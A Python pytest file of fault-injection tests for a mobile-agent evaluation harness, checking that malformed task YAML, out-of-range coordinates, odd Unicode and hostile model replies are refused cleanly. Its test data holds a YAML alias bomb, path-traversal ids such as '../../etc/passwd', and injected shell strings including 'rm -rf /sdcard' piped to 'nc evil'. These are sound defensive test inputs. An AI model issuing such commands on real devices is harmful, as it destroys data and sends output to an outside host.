"""Input faults: malformed task YAML (syntax, shapes, types, typos, duplicates, non-UTF-8 bytes,
alias bombs, absurd nesting), unknown action types, negative and huge coordinates (from task
files, scripts, agents and models' text), non-UTF-8 and odd Unicode in what agents say and type,
and task ids with `../` in them. Each is refused with one clear line naming where, or recorded as
an invalid step; none crashes a run, reaches the device, or writes outside the run folder."""

from __future__ import annotations

import json

import pytest

from harness.core.actions import (MAX_COORD, ActionError, Click, CoordSpace, LongPress, Swipe, TypeText, check_on_screen,
                                  parse_action, to_device)
from harness.core.episode import AgentOutput
from harness.records import EpisodeResult, RecordError, RunWriter, StepRecord, iter_steps, read_results
from harness.core.tasks import TaskError, load_suite, parse_task
from tests.faults.helpers import check_run_consistent

pytestmark = pytest.mark.faults

GOOD = {"id": "t1", "instruction": "Turn off Wi-Fi.", "reference_steps": 3,
        "setup": {"sim": {"preset": "default"}}, "success": {"path": "apps.settings.wifi", "eq": False}}


def _yaml(obj) -> str:
    import yaml
    return yaml.safe_dump(obj, allow_unicode=True, sort_keys=False)


BOMB = "\n".join(["- id: bomb", "  instruction: x", "  reference_steps: 1", "  setup:", "    sim:",
                  "      state:", '        a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]'] +
                 [f"        {n}: &{n} [{', '.join(['*' + p] * 9)}]" for p, n in zip("abcdefgh", "bcdefghi")]) + "\n"

MALFORMED: dict[str, tuple[bytes, str]] = {
    "yaml-syntax": (b"- id: t1\n  instruction: [unclosed\n", "invalid YAML at line"),
    "tab-indent": (b"- id: t1\n\tinstruction: x\n", "invalid YAML"),
    "not-a-list": (b"hello: world\n", "holds a list of tasks"),
    "task-not-mapping": (b"- just a string\n", "a task must be a mapping"),
    "missing-field": (b"- id: t1\n", "instruction"),
    "wrong-type": (_yaml([{**GOOD, "reference_steps": "many"}]).encode(), "reference_steps"),
    "negative-steps": (_yaml([{**GOOD, "reference_steps": -3}]).encode(), "reference_steps"),
    "typo-field": (_yaml([{**GOOD, "instrction": "x"}]).encode(), "instrction"),
    "duplicate-id": (_yaml([GOOD, GOOD]).encode(), "duplicate task id"),
    "unknown-action": (_yaml([{**GOOD, "reference": [{"type": "teleport", "x": 1, "y": 2}]}]).encode(), "teleport"),
    "negative-coordinate": (_yaml([{**GOOD, "reference": [{"type": "click", "x": -5, "y": 2}]}]).encode(), "reference"),
    "huge-coordinate": (_yaml([{**GOOD, "reference": [{"type": "click", "x": 10 ** 30, "y": 2}]}]).encode(), "reference"),
    "float-coordinate": (_yaml([{**GOOD, "reference": [{"type": "click", "x": 1.5, "y": 2}]}]).encode(), "reference"),
    "bool-coordinate": (_yaml([{**GOOD, "reference": [{"type": "click", "x": True, "y": 2}]}]).encode(), "reference"),
    "bad-check-operator": (_yaml([{**GOOD, "success": {"path": "a", "sorta": 1}}]).encode(), "success"),
    "non-utf8": (b"- id: t1\n  instruction: caf\xe9 \xff\xfe\n  reference_steps: 1\n", "not UTF-8 text (byte 27)"),
    "binary": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "not UTF-8"),
    "nul-bytes": (b"- id: t1\x00\n  instruction: x\n", "invalid YAML"),
    "dotdot-id": (_yaml([{**GOOD, "id": "../escape"}]).encode(), "id"),
    "slash-id": (_yaml([{**GOOD, "id": "a/b"}]).encode(), "id"),
    "dot-id": (_yaml([{**GOOD, "id": ".."}]).encode(), "id"),
    "newline-id": (_yaml([{**GOOD, "id": "t1\n"}]).encode(), "id"),
    "alias-bomb": (BOMB.encode(), "expands to more than"),
    "deep-nesting": (b"- id: t1\n  instruction: " + b"[" * 2000 + b"]" * 2000 + b"\n", "nested too deeply"),
}


@pytest.mark.parametrize("name", [pytest.param(k, marks=pytest.mark.slow) if k == "deep-nesting" else k
                                  for k in MALFORMED])
def test_malformed_task_files_are_one_clear_line_per_defect(name, tmp_path, capsys):
    from harness.cli.main import main

    data, expected = MALFORMED[name]
    f = tmp_path / f"{name}.yaml"
    f.write_bytes(data)
    with pytest.raises(TaskError) as e:
        load_suite(f)
    assert str(e.value).startswith(str(f)) and expected in str(e.value), str(e.value)
    assert main(["tasks", "list", "--suite", str(f)]) == 2
    err = capsys.readouterr().err
    assert err.startswith(f"harness: error: {f}") and expected in err and "Traceback" not in err, err
    # one clear line per defect (a task missing two fields gives two lines)
    assert all(line.startswith(f"harness: error: {f}") for line in err.strip().splitlines()), err
    # `harness run` refuses it before touching a device or creating the run folder
    out = tmp_path / "run"
    assert main(["run", "--suite", str(f), "--agent", "replay", "--device", "nowhere:1", "--out", str(out)]) == 2
    assert expected in capsys.readouterr().err
    assert not out.exists()


def test_a_folder_with_one_bad_file_names_that_file(tmp_path):
    (tmp_path / "a.yaml").write_text(_yaml([GOOD]), encoding="utf-8")
    (tmp_path / "b.yaml").write_bytes(b"- id: t2\n  instruction: \xff\n")
    with pytest.raises(TaskError, match=r"b\.yaml: not UTF-8"):
        load_suite(tmp_path)


# --- unknown action types -----------------------------------------------------------------------
@pytest.mark.parametrize("data", [{"type": "teleport"}, {"type": None}, {}, {"type": "click "}, {"type": "CLICK", "x": 1, "y": 1},
                                  ["click", 1, 2], "click(1, 2)", None, {"type": "click", "x": 1, "y": 2, "force": True}])
def test_unknown_or_malformed_actions_are_action_errors(data):
    with pytest.raises(ActionError):
        parse_action(data)


def test_script_with_unknown_action_is_refused_naming_file_and_step(tmp_path, capsys):
    from harness.cli.main import main

    script = tmp_path / "script.yaml"
    script.write_text("- {type: open_app, app: Settings}\n- {type: levitate, height: 3}\n", encoding="utf-8")
    suite = tmp_path / "suite.yaml"
    suite.write_text(_yaml([GOOD]), encoding="utf-8")
    rc = main(["run", "--suite", str(suite), "--agent", "script", "--agent-opt", f"file={script}",
               "--device", "nowhere:1", "--out", str(tmp_path / "run")])
    err = capsys.readouterr().err
    assert rc == 2 and str(script) in err and "step 2" in err and "levitate" in err, err
    assert not (tmp_path / "run").exists()


# --- negative or huge coordinates ---------------------------------------------------------------------
@pytest.mark.parametrize("data", [
    {"type": "click", "x": -1, "y": 5}, {"type": "click", "x": 5, "y": -10 ** 9},
    {"type": "click", "x": MAX_COORD + 1, "y": 5}, {"type": "click", "x": 10 ** 400, "y": 5},
    {"type": "click", "x": float("nan"), "y": 5}, {"type": "click", "x": float("inf"), "y": 5},
    {"type": "click", "x": "12", "y": 5}, {"type": "click", "x": True, "y": 5},
    {"type": "swipe", "start": [0, 0], "end": [-1, 5]}, {"type": "long_press", "x": 3, "y": 3, "duration_ms": 10 ** 9},
    {"type": "wait", "seconds": 10 ** 9}, {"type": "key", "key": 10 ** 6}, {"type": "key", "key": -1},
])
def test_out_of_range_numbers_are_refused_when_parsed(data):
    with pytest.raises(ActionError):
        parse_action(data)


@pytest.mark.parametrize("x,y", [(float("nan"), 5.0), (float("inf"), 5.0), (-float("inf"), 5.0), (1e308, -1e308),
                                 (-5.0, 2000.0)])
def test_model_coordinates_map_into_the_screen_or_fail_cleanly(x, y):
    """to_device clamps finite values into the screen; non-finite ones are refused as ActionError
    (never a ValueError/OverflowError escaping from an agent as if the agent had crashed)."""
    for space in (CoordSpace.PIXELS, CoordSpace.UNIT, CoordSpace.THOUSAND, CoordSpace.GRID_999):
        try:
            px, py = to_device(x, y, space, (1080, 2400))
        except ActionError:
            continue
        assert 0 <= px < 1080 and 0 <= py < 2400


# Model text reaches parsers through ModelClient.chat, which turns lone surrogates into U+FFFD
# (test_a_model_reply_with_lone_surrogates_is_valid_text); U+FFFD itself must parse or be refused.
HOSTILE_OUTPUTS = [
    "", " \n\t", "\x00" * 10, "Thought: \ufffd\ufffd\nAction: click(start_box='(\ufffd,5)')",
    "Action: click(start_box='(%s,5)')" % ("9" * 400), "Action: click(start_box='(-50,-20)')",
    "Action: click(start_box='(nan,inf)')", "Action: teleport(to='moon')", "Action: click(",
    "Action: " + "(" * 10000, "Action: click(start_box='(" + "1," * 5000 + "1)')",
    '<tool_call>{"name": "mobile_use", "arguments": {"action": "click", "coordinate": [%s, 5]}}</tool_call>' % ("9" * 400),
    '<tool_call>{"name": "mobile_use", "arguments": {"action": "click", "coordinate": [-5, NaN]}}</tool_call>',
    '<tool_call>{"name": "mobile_use", "arguments": {"action": "levitate"}}</tool_call>',
    '<tool_call>{"name": "mobile_use", "arguments": ' + "[" * 5000 + "]" * 5000 + "}</tool_call>",
    'Action: {"action_type": "click", "index": %s}' % ("9" * 400), 'Action: {"action_type": "click", "index": -1}',
    'Action: {"action_type": "click", "x": 1e999, "y": 3}', 'Action: {"action_type": "rm -rf /"}',
    "{" * 100000, "z" * 1_000_000, "Action: type(content='caf\ufffd \x00')", "Action: open_app(app_name='\ufffd')",
    '<tool_call>{"name": "mobile_use", "arguments": {"action": "type", "text": "\ufffd\u0000"}}</tool_call>',
    'Action: {"action_type": "input_text", "text": "\ufffd", "index": 1}',
    "Action: type(content='$(reboot); rm -rf /sdcard `id` | nc evil 1 && echo > /sdcard/pwn')",
]


MODEL_FAMILIES = ("m3a", "qwen", "uitars", "vlm")  # the model-backed agents we ship, each with its parser


def _parsers():
    import agents  # noqa: F401
    from agents.parsing import PARSERS

    return sorted(set(PARSERS) | set(MODEL_FAMILIES))  # one of ours missing from PARSERS fails below, never skips


@pytest.mark.parametrize("agent", _parsers())
def test_model_output_parsers_refuse_hostile_text_cleanly(agent):
    """Every registered agent family's parser turns hostile model text into ParseError (an invalid
    step) or into actions that lie on the screen; nothing else escapes (it would end the episode as
    agent_error, or worse). How each parser's time grows with such text (a megabyte of it) is
    measured by scripts/bench_replies, not clocked here."""
    from agents.parsing import PARSERS, ParseError

    assert agent in PARSERS, f"agent family {agent!r} registers no output parser"
    for text in HOSTILE_OUTPUTS:
        try:
            parsed = PARSERS[agent].parse(text, (1080, 2400))
        except ParseError:
            pass
        else:
            for a in parsed.actions:
                check_on_screen(a, 1080, 2400)


def test_off_screen_actions_never_reach_the_device(says_phone):
    """Coordinates that are valid numbers but off this screen are recorded as invalid steps; the
    phone receives no input for them (checked in its own shell log), and the episode goes on."""
    phone = says_phone()
    task = parse_task({**GOOD, "setup": {"sim": {"preset": "default"}}})
    outs = [AgentOutput(Click(x=540, y=10)), AgentOutput(Click(x=MAX_COORD, y=MAX_COORD)),
            AgentOutput(Swipe(start=(10, 10), end=(10, 1200))), AgentOutput(LongPress(x=0, y=99_999)),
            AgentOutput(Click(x=539, y=1199))]
    n_log = len(phone.sim.handle.device.shell.log)
    out, ep, w = phone.play(task, outs, cap=6)
    w.close()
    steps = list(iter_steps(ep.path))
    assert out.status == "finished" and [bool(st.invalid) for st in steps[:5]] == [True, True, True, True, False]
    assert all("outside the 540x1200 screen" in st.invalid for st in steps[:4])
    touches = [argv for argv in phone.sim.handle.device.shell.log[n_log:]
               if argv[0] == "input" and argv[1] in ("tap", "swipe", "draganddrop", "motionevent")]
    assert touches == [["input", "tap", "539", "1199"]], touches


# --- non-UTF-8 bytes and odd Unicode in what agents say and type ------------------------------------------
ODD = ["caf\udce9", "\udcff\udcfe", "nul\x00byte", "line\u2028sep\u2029para\u0085nel", "\ufeffbom", "🙂 emoji",
       "zero\u200bwidth", "rtl \u202egnp.exe", "\x1b[31mred\x1b[0m", "tab\tnew\nline"]


def test_odd_text_from_an_agent_is_recorded_exactly_and_typed_or_refused(says_phone):
    """Lone surrogates (what a decoder leaves of non-UTF-8 bytes), NUL, line separators, BOMs,
    control sequences: recorded as valid UTF-8 JSON lines that read back; printable ASCII is typed,
    anything else (this phone has no ADBKeyboard) is an invalid step that says what would type it;
    never an infra_error, agent_error or crash."""
    phone = says_phone(adbkeyboard=False)
    task = parse_task(GOOD)
    # a lone surrogate cannot even become a TypeText (pydantic refuses it): it is typed as '?'
    outs = [AgentOutput(TypeText(text=t.encode("utf-8", "replace").decode("utf-8")), raw_output=f"Action: type('{t}')",
                        thought=t, extras={"odd": t}) for t in ODD]
    out, ep, w = phone.play(task, outs, cap=len(ODD) + 1)
    w.append_result(EpisodeResult(task_id=task.id, agent="says", status=out.status, steps=out.steps, cap=out.cap,
                                  proposed_steps=out.proposed_steps, verdicts={}, error=out.error))
    ep.write_summary(read_results(phone.run)[0])
    w.close()
    assert out.status == "finished", (out.status, out.error)
    raw = (ep.path / "trajectory.jsonl").read_bytes()
    raw.decode("utf-8")  # strictly valid UTF-8
    lines = raw.split(b"\n")
    assert len([ln for ln in lines if ln]) == len(ODD) + 1  # nothing split a record across lines
    steps = list(iter_steps(ep.path))
    for st, text in zip(steps, ODD):
        assert st.thought == text and st.extras["odd"] == text, (st.thought, text)
        typed = st.action["text"]
        if all(" " <= c <= "~" for c in typed):  # printable ASCII: `input text` types it
            assert st.invalid is None and st.executed is True, (text, st.invalid)
        else:  # anything else without ADBKeyboard: an invalid step saying what would type it
            assert "cannot type non-ASCII text: install the ADBKeyboard IME" in st.invalid, (text, st.invalid)
            assert st.executed is False, text
    check_run_consistent(phone.run)


def test_non_utf8_in_records_is_an_error_with_file_and_line(tmp_path):
    with RunWriter(tmp_path / "run", fsync=False) as w:
        ep = w.start_episode("t1")
        ep.write_screen(0, b"\x89PNG\r\n\x1a\n" + b"\0" * 20)
        ep.append_step(StepRecord(index=1, screen_before="screens/000.png"))
        w.append_result(EpisodeResult(task_id="t1", agent="a", status="finished", steps=1, cap=3, verdicts={}))
    traj = tmp_path / "run" / "episodes" / "t1" / "trajectory.jsonl"
    traj.write_bytes(traj.read_bytes() + b'{"index": 2, "thought": "caf\xe9", "screen_before": "screens/000.png"}\n')
    with pytest.raises(RecordError, match=r"trajectory.jsonl:2: not valid UTF-8"):
        list(iter_steps(traj.parent))
    res = tmp_path / "run" / "results.jsonl"
    res.write_bytes(res.read_bytes() + b'{"task_id": "t\xff", "agent": "a"}\n')
    with pytest.raises(RecordError, match=r"results.jsonl:2: not valid UTF-8"):
        RunWriter(tmp_path / "run", resume=True)


def test_a_model_reply_with_lone_surrogates_is_valid_text():
    """A JSON escape of half a surrogate pair (an emoji cut by max_tokens) comes out as U+FFFD,
    which actions and records accept (a lone surrogate would fail every str-typed action)."""
    from harness.client.calls import ModelClient
    from harness.client.config import ModelConfig
    from harness.client.images import user_message
    from tests.fakes.model_server import Reply, ScriptedModelServer

    body = (b'{"id": "x", "object": "chat.completion", "choices": [{"index": 0, "message": {"role": "assistant", '
            b'"content": "Action: type(content=\'caf\\udce9 \\ud83d\')"}}]}')
    with ScriptedModelServer([Reply(raw_body=body)]) as s:
        r = ModelClient(ModelConfig(base_url=s.base_url, model="m", max_retries=0)).chat([user_message("x")])
    assert r.text == "Action: type(content='caf\ufffd \ufffd')"
    r.text.encode("utf-8")
    TypeText(text=r.text)


def test_a_model_reply_with_invalid_utf8_bytes_is_a_clear_model_error():
    from harness.client.calls import ModelClient
    from harness.client.config import ModelConfig, ModelError
    from harness.client.images import user_message
    from tests.fakes.model_server import Reply, ScriptedModelServer

    body = b'{"id": "x", "object": "chat.completion", "choices": [{"index": 0, "message": {"role": "assistant", "content": "caf\xe9 \xff"}}]}'
    with ScriptedModelServer([Reply(raw_body=body)]) as s:
        try:
            r = ModelClient(ModelConfig(base_url=s.base_url, model="m", max_retries=0)).chat([user_message("x")])
        except ModelError as e:
            assert e.kind == "malformed", e
        else:  # a lenient decoder replaced the bytes: the text is still valid Unicode
            r.text.encode("utf-8")


# --- task ids with ../ -------------------------------------------------------------------------------
@pytest.mark.parametrize("bad", ["../escape", "../../etc/passwd", "a/../../b", "/abs", "..", ".", ".hidden", "a\\b",
                                 "a b", "t\n", "", "x" * 129, "C:evil", "ok\x00"])
def test_task_ids_that_would_leave_the_run_folder_are_refused_everywhere(tmp_path, bad):
    outside = tmp_path / "outside"
    outside.mkdir()
    before = sorted(p.name for p in tmp_path.rglob("*"))
    with pytest.raises(TaskError):
        parse_task({**GOOD, "id": bad})
    with RunWriter(tmp_path / "run", fsync=False) as w:
        with pytest.raises(RecordError):
            w.start_episode(bad)
        with pytest.raises((RecordError, ValueError)):
            w.append_result(EpisodeResult(task_id=bad, agent="a", status="finished", steps=0, cap=1, verdicts={}))
    res = tmp_path / "run" / "results.jsonl"
    res.write_text(json.dumps({"task_id": bad, "agent": "a", "status": "finished", "steps": 0, "cap": 1,
                               "verdicts": {}}) + "\n", encoding="utf-8")
    with pytest.raises(RecordError, match="task_id"):
        read_results(tmp_path / "run")
    created = sorted(p.name for p in tmp_path.rglob("*"))
    assert set(created) - set(before) <= {"run", "episodes", "results.jsonl", ".lock", "manifest.json"}, created
    assert not any(outside.iterdir())


def test_a_symlinked_episode_folder_cannot_redirect_writes(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    with RunWriter(tmp_path / "run", fsync=False) as w:
        ep = w.start_episode("t1")
        ep.write_screen(0, b"\x89PNG\r\n\x1a\n")
    # a partial episode folder swapped for a symlink to elsewhere, then the run is resumed
    import shutil

    shutil.rmtree(tmp_path / "run" / "episodes" / "t1")
    (tmp_path / "run" / "episodes" / "t1").symlink_to(outside, target_is_directory=True)
    with RunWriter(tmp_path / "run", resume=True, fsync=False) as w:
        with pytest.raises(RecordError, match="resolves outside"):
            w.start_episode("t1")
    assert not any(outside.iterdir())


def test_a_task_the_agent_cannot_start_is_an_agent_error_not_a_crash(tmp_path):
    """Regression: the replay agent on a task without a reference fails in reset(); that episode's
    result had no ended_at, failed validation and killed the worker (the run lost the task)."""
    from agents.replay import ReplayAgent, ReplayConfig
    from harness.sim.phone import SimPhone
    from harness.run.suite import Plugins, SuiteConfig, run_suite
    from tests.fakes.local_device import LocalSimDevice

    tasks = [parse_task({**GOOD, "id": "noref"}), parse_task({**GOOD, "id": "noref2"})]
    with RunWriter(tmp_path / "run", fsync=False) as w:
        rep = run_suite(tasks, [LocalSimDevice(SimPhone(540, 1200), serial=s) for s in ("a", "b")],
                        Plugins(agent=lambda: ReplayAgent(ReplayConfig())), w, SuiteConfig(agent_name="replay"))
    assert not rep.error and not rep.not_run
    rows = read_results(tmp_path / "run")
    assert len(rows) == 2 and all(r.status == "agent_error" and "no reference trajectory" in r.error and r.ended_at
                                  for r in rows), rows
    check_run_consistent(tmp_path / "run")


# --- long text in any script ------------------------------------------------------------------------------
LONG_TEXT = {  # 5,000 characters each (the last a full stop: a sent message loses trailing spaces)
    name: (unit * (5000 // len(unit) + 1))[:4999] + "."
    for name, unit in (("chinese", "明天的会议改到下午三点，请准时参加。"), ("emoji", "😀🎉👍🏽❤️‍🔥🇨🇳"),
                       ("mixed", "Saturday 周六 😀 at 10, «see» you — مرحبا "), ("latin", "see you there on saturday at ten "))
}


@pytest.mark.parametrize("script", list(LONG_TEXT))
def test_5000_characters_of_any_script_are_typed_sent_and_drawn_without_wedging_the_phone(adb, serve_sim, tmp_path,
                                                                                          script):
    """A reply of 5,000 characters (Chinese, emoji sequences, mixed scripts, Latin) typed into the
    compose field and sent: the episode finishes (the screenshots after the type and send steps come
    back within a 10 s command timeout: no infra_error), the message holds the text exactly, and
    every screenshot is recorded."""
    from tests.faults.helpers import harness_run, write_suite

    text = LONG_TEXT[script]
    assert len(text) == 5000

    def patch(t):
        t["reference"] = [dict(s, text=text) if s["type"] == "type" else s for s in t["reference"]]
        t["success"] = {"path": "apps.messages.threads[number=5550145].messages[-1].text", "eq": text}
        t["milestones"] = t["milestones"][:1]

    suite = write_suite(tmp_path / "suite.yaml", ["messages_reply_lena"], patch)
    phone = serve_sim()  # a full 1080x2400 screen, as the sim serves by default
    run = tmp_path / "run"
    r = harness_run(["run", "--suite", str(suite), "--device", phone.serial, "--agent", "replay", "--judge", "oracle",
                     "--adb-port", str(adb.port), "--command-timeout", "10", "--quiet", "--out", str(run)], adb.port,
                    timeout=300)
    assert r.returncode == 0, r.stderr
    (row,) = read_results(run)
    assert (row.status, row.verdicts.get("oracle")) == ("finished", True), (row.status, row.error, row.verdicts)
    typed = [s for s in iter_steps(run / "episodes" / row.task_id) if s.action and s.action["type"] == "type"]
    assert typed[0].action["text"] == text
    assert phone.phone.state_json()["apps"]["messages"]["threads"]  # the phone still answers
    check_run_consistent(run)
